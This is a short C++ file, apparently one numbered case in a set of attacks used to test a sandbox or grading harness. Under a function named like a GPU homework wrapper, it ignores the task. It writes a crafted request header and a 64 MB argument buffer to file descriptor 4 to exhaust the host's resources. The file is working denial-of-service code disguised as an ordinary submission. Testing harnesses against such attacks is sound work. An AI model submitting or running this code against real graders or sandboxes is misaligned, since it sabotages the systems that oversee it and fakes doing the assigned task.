// attack: exhaust
// root: resources
// what: makes one launch with sixteen million empty arguments, each of which needs an entry in a
//   list
// list: 9
#include <cstring>
#include <unistd.h>
#include <vector>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  struct { unsigned operation, error, device_error, reserved; unsigned long numbers[8], payload; } head = {};
  std::vector<char> arguments(64 << 20);
  head.operation = 5;
  head.payload = arguments.size();
  arguments[0] = 'x';
  const ssize_t sent = write(4, &head, sizeof head);
  for (size_t at = 0; sent > 0 && at < arguments.size();) {
    const ssize_t put = write(4, arguments.data() + at, arguments.size() - at);
    if (put <= 0) break;
    at += put;
  }
}
